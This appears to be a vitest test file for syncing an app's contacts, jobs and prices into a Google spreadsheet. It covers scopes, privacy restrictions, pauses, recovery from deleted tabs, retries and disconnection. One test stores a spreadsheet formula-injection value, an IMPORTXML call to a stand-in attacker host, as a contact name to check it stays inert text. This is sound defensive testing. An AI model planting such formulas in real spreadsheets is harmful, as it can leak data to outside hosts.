import { afterEach, beforeEach, expect, test } from 'vitest';
import { expectOk } from '#shared/lib/result.ts';
import type { GoogleWorld } from './world.ts';
import { customerName, openGoogleWorld } from './world.ts';
import { apiError } from './server.ts';
import { columnOf, deleteColumn, insertColumn, recordsIn, sortTab } from './sheets.ts';

const ends: (() => unknown)[] = [];
let world: GoogleWorld;
beforeEach(async () => {
  world = await openGoogleWorld(ends);
});
afterEach(async () => {
  for (const end of ends.splice(0).toReversed()) await end();
});

const words = { name: 'Plumbline tables', tabs: { contacts: 'People', jobs: 'Jobs', services: 'Prices' } };
const link = () => world.memory.list('googleLinks')[0]!;
const sheet = () => world.memory.list('googleSheets')[0]!;
const tab = (title = 'People') => world.standin.sheets.tab(title);
const choose = (...tables: string[]) =>
  expectOk(world.memory.run('google.chooseTables', { id: link().id, tables, words }));
const add = (name: string) => expectOk(world.memory.run('contact.create', { name })).id;
const names = (): unknown[] => recordsIn(tab()).map((each) => each['Name']);

async function connected(name = 'laptop') {
  expectOk(world.memory.run('ai.configure', { localOnly: false }));
  const device = world.start(name);
  const wants = { place: 'none', busy: false, tables: true } as const;
  expectOk(await world.connect(device, wants));
  return device;
}

async function written(...tables: string[]): Promise<void> {
  choose(...tables);
  await expect.poll(() => sheet().writtenAt).toBeDefined();
}

test('chosen tables stand in a spreadsheet, as text and numbers, follow each change, and no formula runs', async () => {
  expectOk(world.memory.run('service.add', { name: 'Boiler check', unitPrice: '9950' }));
  expectOk(world.memory.run('contact.create', { name: 'Ana', phones: { p: { number: '+31612345678' } } }));
  add('=IMPORTXML("https://evil.example")');
  await connected();
  expect(link().scopes).toEqual(['https://www.googleapis.com/auth/drive.file']);
  await written('contacts', 'services');
  expect(world.standin.sheets.spreadsheets.size).toBe(1);
  expect(names()).toContain('=IMPORTXML("https://evil.example")');
  const [phone] = recordsIn(tab()).flatMap((each) => (each['Name'] === 'Ana' ? [each['Phone']] : []));
  expect(phone).toMatch(/^\+31/);
  expect(JSON.stringify(tab().rows)).not.toContain('formula');
  expect(recordsIn(tab('Prices'))).toMatchObject([{ Service: 'Boiler check', Price: 99.5 }]);
  expect(tab().columns[columnOf(tab(), 'Id')]!.isHidden).toBe(true);
  const id = add('Zoë New');
  await expect.poll(names).toContain('Zoë New');
  expectOk(world.memory.run('bin.put', { kind: 'contacts', ids: [id] }));
  await expect.poll(names).not.toContain('Zoë New');
  await expect.poll(() => sheet().rows).toMatchObject({ contacts: names().length });
});

test('nobody is asked for the right before tables are wanted, and one that is not ticked writes nothing and is said', async () => {
  const device = world.start('laptop');
  await world.connect(device, { place: 'own', busy: false });
  expect(link().scopes.join()).not.toContain('drive');
  const only = ['https://www.googleapis.com/auth/calendar.app.created'];
  const done = await world.connect(device, { place: 'own', busy: false, tables: true }, { only });
  expect(expectOk(done)).toEqual({ missing: ['tables'] });
  choose('contacts');
  await new Promise((resolve) => setTimeout(resolve, 100));
  expect(world.standin.traffic.join('\n')).not.toContain('/v4/spreadsheets');
});

test('what the owner has sorted, added and hidden stays, and rows are found again', async () => {
  const id = add('Bob');
  for (const name of ['Carl', 'Ana']) add(name);
  await connected();
  await written('contacts');
  insertColumn(tab(), 1, ['My notes']);
  sortTab(tab(), 0);
  const row = tab().rows.findIndex(([name]) => name === 'Bob');
  tab().rows[row]![1] = 'pays late';
  expectOk(world.memory.run('contact.update', { id, fields: { name: 'Bobby' } }));
  await expect.poll(names).toContain('Bobby');
  expect(
    tab()
      .rows.slice(0, 4)
      .map(([name, note]) => [name, note]),
  ).toEqual([
    ['Name', 'My notes'],
    ['Ana', ''],
    ['Bobby', 'pays late'],
    ['Carl', ''],
  ]);
});

test('of whom nothing may leave, or nothing but the books is left, no row stays', async () => {
  const [stays, kept] = [add('Stays Here'), add('Only Kept')];
  add('Free');
  await connected();
  await written('contacts', 'jobs');
  expectOk(world.memory.run('job.create', { contactId: stays, title: 'Secret work' }));
  await expect.poll(() => JSON.stringify(tab('Jobs').rows)).toContain('Secret work');
  expectOk(world.memory.run('contact.keepOnDevice', { id: stays, on: true }));
  expectOk(world.memory.run('contact.restrict', { id: kept, why: 'Asked' }));
  await expect.poll(() => JSON.stringify(world.standin.sheets.tab('Jobs').rows)).not.toContain('Secret');
  await expect.poll(names).toEqual(['Free']);
});

test('while sending is paused, or local-only is on, nothing is written', async () => {
  add('Ana');
  await connected();
  await written('contacts');
  expectOk(world.memory.run('pause.set', { parts: ['sends'] }));
  add('Too soon');
  await new Promise((resolve) => setTimeout(resolve, 150));
  expect(names()).toEqual(['Ana']);
  expectOk(world.memory.run('ai.configure', { localOnly: true }));
  expectOk(world.memory.run('pause.lift', { parts: ['sends'] }));
  await new Promise((resolve) => setTimeout(resolve, 150));
  expect(names()).toEqual(['Ana']);
  expectOk(world.memory.run('ai.configure', { localOnly: false }));
  await expect.poll(names).toContain('Too soon');
});

test('a tab, its column of ids or the whole spreadsheet that somebody deletes is told, and made anew when they say so', async () => {
  add('Ana');
  await connected();
  await written('contacts', 'jobs');
  const [file] = [...world.standin.sheets.spreadsheets.values()];
  tab().title = 'Renamed';
  file!.title = 'Renamed too';
  add('Bob');
  await expect.poll(() => recordsIn(tab('Renamed')).length).toBe(2);
  // They are counted when the writing is over: no step is taken by a look from before the column was gone.
  await expect.poll(() => sheet().rows).toMatchObject({ contacts: 2 });
  deleteColumn(tab('Renamed'), columnOf(tab('Renamed'), 'Id'));
  add('Carl');
  await expect.poll(() => sheet().trouble).toMatchObject({ kind: 'tabLost', tables: ['contacts'] });
  expect(JSON.stringify(file)).not.toContain('Carl');
  expectOk(world.memory.run('google.makeTablesAnew', { id: link().id }));
  await expect.poll(() => (tab() === undefined ? 0 : recordsIn(tab()).length)).toBe(3);
  await expect.poll(() => sheet().trouble).toBeUndefined();
  world.standin.sheets.spreadsheets.clear();
  add('Dora');
  await expect.poll(() => sheet().trouble?.kind).toBe('fileLost');
  expect(world.standin.sheets.spreadsheets.size).toBe(0);
  expectOk(world.memory.run('google.makeTablesAnew', { id: link().id }));
  await expect.poll(() => (world.standin.sheets.spreadsheets.size === 0 ? [] : names())).toHaveLength(4);
});

test('an interface that is not switched on is said, and what has failed goes on when somebody asks', async () => {
  add('Ana');
  await connected();
  const refusal = apiError(403, 'accessNotConfigured', 'Google Sheets API has not been used in project 4711');
  world.standin.failNext('POST /v4/spreadsheets', refusal);
  choose('contacts');
  await expect.poll(() => sheet().trouble?.kind).toBe('switchedOff');
  expect(world.standin.sheets.spreadsheets.size).toBe(0);
  expectOk(world.memory.run('google.writeTables', { id: link().id }));
  await expect.poll(() => sheet().trouble).toBeUndefined();
  expect(names()).toEqual(['Ana']);
});

test('lost answers, limits and two devices make no row twice', async () => {
  for (const name of ['Ana', 'Bob', 'Carl']) add(name);
  await connected();
  world.start('desktop');
  world.standin.failNext('POST /v4/spreadsheets/', 'brokenAfter');
  world.standin.failNext('POST /v4/spreadsheets/', apiError(429, 'rateLimitExceeded'));
  world.standin.failNext('POST /v4/spreadsheets/', 'brokenBefore');
  await written('contacts');
  expect(names()).toHaveLength(3);
  expect(new Set(names())).toEqual(new Set(['Ana', 'Bob', 'Carl']));
  expect(world.standin.sheets.spreadsheets.size).toBe(1);
});

test('a table that is chosen no more is written no more, and gives up who is gone', async () => {
  const id = add(customerName);
  add('Ana');
  await connected();
  await written('contacts');
  choose();
  add('Later');
  expectOk(world.memory.run('contact.keepOnDevice', { id, on: true }));
  await expect.poll(names).toEqual(['Ana']);
});

test('disconnecting ends the writing, and leaves nothing here of where it stood', async () => {
  add('Ana');
  await connected();
  await written('contacts');
  expectOk(world.memory.run('google.disconnect', { id: link().id }));
  expect(world.memory.list('googleSheets')).toEqual([]);
  await expect.poll(() => world.standin.oauth.grants.size).toBe(0);
});
